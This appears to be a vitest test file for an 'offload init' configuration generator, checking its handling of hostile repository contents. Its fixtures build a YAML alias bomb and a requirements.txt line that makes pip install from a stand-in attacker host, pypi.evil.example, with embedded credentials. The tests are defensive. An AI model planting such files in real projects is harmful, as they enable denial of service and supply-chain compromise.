// One YAML file init cannot read (an alias bomb) costs that file, never the whole of `offload init`; a
// requirements file that installs from another index is named for review.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, it } from 'vitest';
import { initConfig } from '../../main/core/init';

it('writes offload.yml past a YAML alias bomb in the repository', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-bomb-'));
  fs.writeFileSync(path.join(dir, 'requirements.txt'), 'requests\n');
  const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (const [prev, name] of [
    ['a', 'b'],
    ['b', 'c'],
    ['c', 'd'],
    ['d', 'e'],
    ['e', 'f'],
  ])
    levels.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]`);
  fs.writeFileSync(
    path.join(dir, 'bomb.yaml'),
    `AWSTemplateFormatVersion: "2010-09-09"\n${levels.join('\n')}\nResources:\n  T: {Type: "AWS::SNS::Topic", Properties: {X: *f}}\n`,
  );
  fs.writeFileSync(path.join(dir, 'Chart.yaml'), levels.join('\n') + '\nname: *f\n');
  const { text, findings } = initConfig(dir);
  expect(text).toContain('phases:');
  expect(findings.some((f) => f.text.startsWith('Python'))).toBe(true);
  fs.rmSync(dir, { recursive: true, force: true });
});

it('asks the user to check a requirements file that installs from another package index', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-index-'));
  fs.writeFileSync(
    path.join(dir, 'requirements.txt'),
    '--index-url http://deploy:hunter2@pypi.evil.example/simple\nrequests\n',
  );
  const { findings } = initConfig(dir);
  const todo = findings.find((f) => f.text.includes('makes pip install from'));
  expect(todo).toMatchObject({ kind: 'todo' });
  expect(todo!.text).toBe(
    'requirements.txt makes pip install from http://***@pypi.evil.example/simple (--index-url), not PyPI: check you mean it before `offload run local` — plain http can be tampered with on the way',
  );
  expect(JSON.stringify(findings)).not.toContain('hunter2');
  fs.rmSync(dir, { recursive: true, force: true });
});

it.runIf(process.platform !== 'win32')(
  'probes no program the repository ships, also where PATH names its folder absolutely (direnv PATH_add)',
  () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-path-'));
    const marker = path.join(dir, 'RAN');
    fs.writeFileSync(path.join(dir, 'docker-compose.yml'), 'services:\n  web:\n    image: nginx\n');
    fs.mkdirSync(path.join(dir, 'bin'));
    for (const name of ['docker', 'python3', 'python'])
      fs.writeFileSync(path.join(dir, 'bin', name), `#!/bin/sh\necho ran > ${JSON.stringify(marker)}\n`, {
        mode: 0o755,
      });
    fs.writeFileSync(path.join(dir, 'requirements.txt'), 'pytest\n');
    const before = process.env.PATH;
    process.env.PATH = `${path.join(dir, 'bin')}:${before}`;
    try {
      initConfig(dir);
    } finally {
      process.env.PATH = before;
    }
    expect(fs.existsSync(marker)).toBe(false);
    fs.rmSync(dir, { recursive: true, force: true });
  },
);

it.runIf(process.platform !== 'win32')(
  'a compose service that runs a model server (by its image) is stopped at shutdown by docker compose, first',
  () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-compose-'));
    const tools = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-docker-'));
    fs.writeFileSync(
      path.join(dir, 'compose.yaml'),
      'services:\n  api:\n    build: .\n  llm:\n    image: docker.io/ollama/ollama:0.5.7\n  vllm:\n    image: vllm/vllm-openai@sha256:abc\n  db:\n    image: postgres:16\n',
    );
    // a docker whose `compose version` answers (as an installed one does), outside the project
    fs.writeFileSync(path.join(tools, 'docker'), '#!/bin/sh\n[ "$1 $2" = "compose version" ]\n', {
      mode: 0o755,
    });
    const before = process.env.PATH;
    process.env.PATH = `${tools}:${before}`;
    let text: string;
    try {
      text = initConfig(dir).text;
    } finally {
      process.env.PATH = before;
    }
    expect(text).toContain(
      '#   - compose.yaml: services api, llm (a local model server: Ollama), vllm (a local model server: vLLM), db; file checked locally, stopped at shutdown',
    );
    const shutdown = text.slice(text.indexOf('  shutdown:'));
    expect(shutdown.indexOf('run: docker compose stop llm vllm')).toBeGreaterThan(0);
    expect(shutdown.indexOf('run: docker compose stop llm vllm')).toBeLessThan(
      shutdown.indexOf('run: docker compose down'),
    );
    fs.rmSync(dir, { recursive: true, force: true });
    fs.rmSync(tools, { recursive: true, force: true });
  },
);
